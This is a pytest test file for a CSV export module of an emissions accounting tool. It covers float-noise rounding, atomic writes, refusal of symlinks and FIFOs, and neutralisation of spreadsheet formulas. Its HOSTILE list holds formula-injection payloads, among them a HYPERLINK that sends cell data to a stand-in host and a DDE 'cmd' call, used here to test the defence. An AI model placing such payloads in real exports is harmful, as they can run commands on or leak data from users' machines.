"""Exported files (issue 12 security 6 and 7, issue 11 item 9 float noise): atomic, regular files only,
formula injection neutralised, floats without binary noise — through ``coreduce.export`` and the CLI."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from coreduce.cli.main import app
from coreduce.export import (
    OutputError,
    atomic_write_bytes,
    atomic_write_text,
    csv_frame,
    round_significant,
    write_csv,
)

runner = CliRunner()
HEADER = "entity,sector,period_start,period_end,activity_type,amount,unit\n"


def _activity(tmp_path: Path, rows: str, name: str = "a.csv") -> Path:
    p = tmp_path / name
    p.write_text(HEADER + rows)
    return p


def _account(*args: str):
    return runner.invoke(app, ["account", "--no-store", *args])


# --- float noise -------------------------------------------------------------------------------------------


def test_round_significant_removes_binary_noise():
    # the figure, 0.1 + 0.2, and values on either side of the exact-power-of-ten range
    x = np.array([38235.600000000006, 0.1 + 0.2, 16.830000000000002, 1 / 3, 2.5e-30 / 3, 1e300 / 3, -0.0, np.nan])
    r = round_significant(x)
    assert repr(float(r[0])) == "38235.6"
    assert repr(float(r[1])) == "0.3"
    assert repr(float(r[2])) == "16.83"
    assert repr(float(r[3])) == "0.333333333333"  # 12 significant digits
    assert r[4] == pytest.approx(8.33333333333e-31, rel=1e-15)
    assert r[5] == pytest.approx(3.33333333333e299, rel=1e-15)
    assert r[6] == 0.0 and np.isnan(r[7])
    # the relative change is below half a unit in the 12th digit
    assert np.all(np.abs(r[:6] - x[:6]) <= 5e-12 * np.abs(x[:6]))


def test_account_csv_has_no_float_noise(tmp_path):
    # 0.3 TJ natural gas × 56.1 t CO2/TJ (IPCC 2006 Vol.2 Table 2.2) = 16.83 t; the branch-point code wrote
    # 16.830000000000002.  681.562 TJ × 56.1 = 38 235.6282 t (written 38235.62820000001 before).
    act = _activity(
        tmp_path,
        "plant_a,power,2022-01-01,2023-01-01,natural_gas,681.562,TJ\n"
        "plant_b,power,2022-01-01,2023-01-01,natural_gas,0.3,TJ\n",
    )
    out = tmp_path / "inv.csv"
    res = _account("--activity", str(act), "--out", str(out))
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(out.open()))
    co2 = {r["entity"]: r["amount"] for r in rows if r["pollutant"] == "CO2"}
    assert co2 == {"plant_a": "38235.6282", "plant_b": "16.83"}
    for r in rows:  # no cell carries more than 12 significant digits
        digits = r["amount"].lower().split("e")[0].replace("-", "").replace(".", "").strip("0")
        assert len(digits) <= 12, r


# --- formula injection -------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|x"]


def test_text_cells_that_start_a_formula_are_neutralised_numbers_untouched():
    df = pd.DataFrame(
        {
            "entity": [*HOSTILE, "\tTAB", "\rCR", "plain", "-5", "+1.5e3", None],
            "amount": [-1.0, 2.0, -3.5, 4.0, 5.0, 6.0, 7.0, -8.0, 9.0, 10.0],
            "n": list(range(-5, 5)),
        }
    )
    got = csv_frame(df)
    assert got["entity"].tolist()[:6] == ["'" + v for v in [*HOSTILE, "\tTAB", "\rCR"]]
    assert got["entity"].tolist()[6:9] == ["plain", "-5", "+1.5e3"]  # plain numbers held as text stay
    assert got["amount"].tolist() == df["amount"].tolist()  # numbers are never touched
    assert got["n"].tolist() == df["n"].tolist()
    assert csv_frame(df, neutralise=False)["entity"].tolist()[:4] == HOSTILE


def test_account_neutralises_formulas_in_entity_names_and_raw_csv_opts_out(tmp_path):
    rows = "".join(
        f'"{e.replace(chr(34), 2 * chr(34))}",power,2022-01-01,2023-01-01,natural_gas,1,TJ\n' for e in HOSTILE
    )
    act = _activity(tmp_path, rows)
    out = tmp_path / "inv.csv"
    res = _account("--activity", str(act), "--out", str(out))
    assert res.exit_code == 0, res.output
    entities = sorted({r["entity"] for r in csv.DictReader(out.open())})
    assert entities == sorted("'" + e for e in HOSTILE)
    amounts = [r["amount"] for r in csv.DictReader(out.open()) if r["pollutant"] == "CO2"]
    assert amounts == ["56.1"] * 4  # 1 TJ × 56.1 t/TJ, unprefixed
    raw = tmp_path / "raw.csv"
    res = _account("--activity", str(act), "--out", str(raw), "--raw-csv")
    assert res.exit_code == 0, res.output
    assert sorted({r["entity"] for r in csv.DictReader(raw.open())}) == sorted(HOSTILE)


# --- atomic writes, non-regular targets ----------------------------------------------------------------------

ONE = "p,power,2022-01-01,2023-01-01,natural_gas,1,TJ\n"


def test_account_refuses_a_symlink_out_and_leaves_it(tmp_path):
    act = _activity(tmp_path, ONE)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "inv.csv"
    link.symlink_to(victim)
    res = _account("--activity", str(act), "--out", str(link))
    assert res.exit_code == 2
    assert (
        res.stderr.strip()
        == f"error: {link}: is a symbolic link; refusing to replace it (give the real path or a new one)"
    )
    assert link.is_symlink() and victim.read_text() == "keep me"


def test_account_refuses_a_fifo_out(tmp_path):
    act = _activity(tmp_path, ONE)
    fifo = tmp_path / "inv.csv"
    os.mkfifo(fifo)
    res = _account("--activity", str(act), "--out", str(fifo))
    assert res.exit_code == 2
    assert res.stderr.strip() == f"error: {fifo}: is a FIFO, not a regular file; refusing to replace it"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert sorted(os.listdir(tmp_path)) == ["a.csv", "inv.csv"]


def test_account_refuses_a_directory_out(tmp_path):
    act = _activity(tmp_path, ONE)
    res = _account("--activity", str(act), "--out", str(tmp_path))
    assert res.exit_code == 2
    assert res.stderr.strip() == f"error: {tmp_path}: is a directory; expected a file name"


def test_write_csv_refuses_a_device_file():
    # /dev/null exists on every POSIX machine; it must be refused, never replaced
    with pytest.raises(OutputError, match=r"^/dev/null: is a device file, not a regular file; refusing"):
        write_csv(pd.DataFrame({"a": [1]}), "/dev/null")
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_a_stale_fixed_tmp_name_does_not_break_the_write(tmp_path):
    # the branch-point code always wrote OUT.tmp: another writer's (here: a directory of that name) made it fail
    # with a traceback; now every writer has its own unique temporary file.
    act = _activity(tmp_path, ONE)
    out = tmp_path / "inv.csv"
    (tmp_path / "inv.csv.tmp").mkdir()
    res = _account("--activity", str(act), "--out", str(out))
    assert res.exit_code == 0, res.output
    assert "Traceback" not in res.output
    assert sum(1 for _ in csv.DictReader(out.open())) == 10


def test_concurrent_writers_to_one_path_all_succeed(tmp_path):
    out = tmp_path / "same.csv"
    frames = [pd.DataFrame({"writer": [i] * 2000, "x": np.arange(2000) / 10}) for i in range(8)]
    errors: list[BaseException] = []

    def work(df: pd.DataFrame) -> None:
        try:
            for _ in range(5):
                write_csv(df, out)
        except BaseException as exc:  # pragma: no cover - the failure being tested for
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(f,)) for f in frames]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    got = pd.read_csv(out)
    assert len(got) == 2000 and got["writer"].nunique() == 1  # one writer's whole file, never a mix
    assert [p.name for p in tmp_path.iterdir()] == ["same.csv"]  # no temporary file left behind


def test_two_cli_processes_with_the_same_out_both_succeed(tmp_path):
    act = _activity(tmp_path, "".join(ONE.replace("p,", f"p{i},", 1) for i in range(50)))
    out = tmp_path / "inv.csv"
    cmd = [
        sys.executable,
        "-m",
        "coreduce.cli.main",
        "account",
        "--no-store",
        "--activity",
        str(act),
        "--out",
        str(out),
    ]
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    for _ in range(2):
        procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env) for _ in range(3)]
        results = [(p.wait(timeout=120), p.stderr.read().decode()) for p in procs]
        for rc, err in results:
            assert rc == 0, err
            assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "inv.csv"]


def test_atomic_text_and_bytes_keep_mode_and_leave_no_temp(tmp_path):
    p = tmp_path / "r.html"
    p.write_text("old")
    p.chmod(0o640)
    atomic_write_text(p, "<p>新</p>")
    assert p.read_text(encoding="utf-8") == "<p>新</p>"
    assert stat.S_IMODE(p.stat().st_mode) == 0o640
    atomic_write_bytes(tmp_path / "sub" / "b.bin", b"\x00\x01")
    assert (tmp_path / "sub" / "b.bin").read_bytes() == b"\x00\x01"
    assert sorted(x.name for x in tmp_path.rglob("*")) == ["b.bin", "r.html", "sub"]


def test_failed_write_leaves_the_old_file_and_no_temp(tmp_path):
    p = tmp_path / "inv.csv"
    p.write_text("old\n")

    from coreduce import export

    def bad(f):
        f.write(b"half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError, match="disk full"):
        export.atomic_write(p, bad)
    assert p.read_text() == "old\n"
    assert [x.name for x in tmp_path.iterdir()] == ["inv.csv"]


def test_gzip_and_timestamps(tmp_path):
    df = pd.DataFrame({"t": pd.to_datetime(["2019-01-01T08:00:00+08:00", None], utc=True), "v": [0.1 + 0.2, 1.0]})
    p = write_csv(df, tmp_path / "x.csv.gz")
    import gzip

    assert gzip.decompress(p.read_bytes()).decode() == "t,v\n2019-01-01T00:00:00Z,0.3\n,1.0\n"


def test_out_under_a_file_is_one_line_and_nothing_is_created(tmp_path):
    act = _activity(tmp_path, ONE)
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    res = _account("--activity", str(act), "--out", str(blocker / "sub" / "inv.csv"))
    assert res.exit_code == 2
    assert res.stderr == f"error: {blocker / 'sub' / 'inv.csv'}: its directory {str(blocker)!r} is not a directory\n"
    with pytest.raises(OutputError, match="is not a directory"):
        write_csv(pd.DataFrame({"a": [1]}), blocker / "x.csv")


def test_a_failed_run_leaves_no_new_output_directory(tmp_path):
    bad = _activity(tmp_path, "p,power,2022-01-01,2023-01-01,natural_gas,-1,TJ\n")
    res = _account("--activity", str(bad), "--out", str(tmp_path / "new" / "dir" / "inv.csv"))
    assert res.exit_code == 2
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("neutralise", [True, False])
def test_fast_csv_writer_writes_what_pandas_writes(tmp_path, neutralise):
    """``write_csv`` builds the text in Arrow (each distinct text quoted once by the csv module, floats by Arrow's
    shortest round-trip cast); the bytes must be those of ``DataFrame.to_csv`` on the same prepared frame:
    quoting (comma, quote, line breaks), nulls, empty text, NaN, ±inf, -0.0, integral floats, exponents."""
    rng = np.random.default_rng(3)
    n = 20_000
    x = np.concatenate([rng.lognormal(0, 8, n // 2), -rng.lognormal(3, 4, n // 2)])
    for step, v in ((97, np.nan), (101, 0.0), (103, -0.0), (107, np.inf), (109, 5.0), (113, 1e16), (127, 1e300),
                    (131, 1e-300), (137, -np.inf), (139, 123456789012345.0), (149, 1e-4), (151, 9.99e-5)):  # fmt: skip
        x[::step] = v
    texts = np.array(["a", "b,c", 'say "hi"', "line\nbreak", "cr\rx", "", " sp ", "=cmd", "-5", "电厂", None, np.nan,
                      "tab\tx"], dtype=object)  # fmt: skip
    df = pd.DataFrame({
        "entity": texts[rng.integers(0, len(texts), n)], "amount": x,
        "ts": pd.to_datetime(rng.integers(1_500_000_000, 1_700_000_000, n), unit="s", utc=True),
        "s": pd.array(texts[rng.integers(0, len(texts), n)].tolist(), dtype="string"), "y": x[::-1],
    })  # fmt: skip
    df.loc[5, "ts"] = pd.NaT
    fast = write_csv(df, tmp_path / "fast.csv", neutralise_formulas=neutralise)
    ref = tmp_path / "ref.csv"
    csv_frame(df, neutralise=neutralise).to_csv(ref, index=False, lineterminator="\n")
    assert fast.read_bytes() == ref.read_bytes()
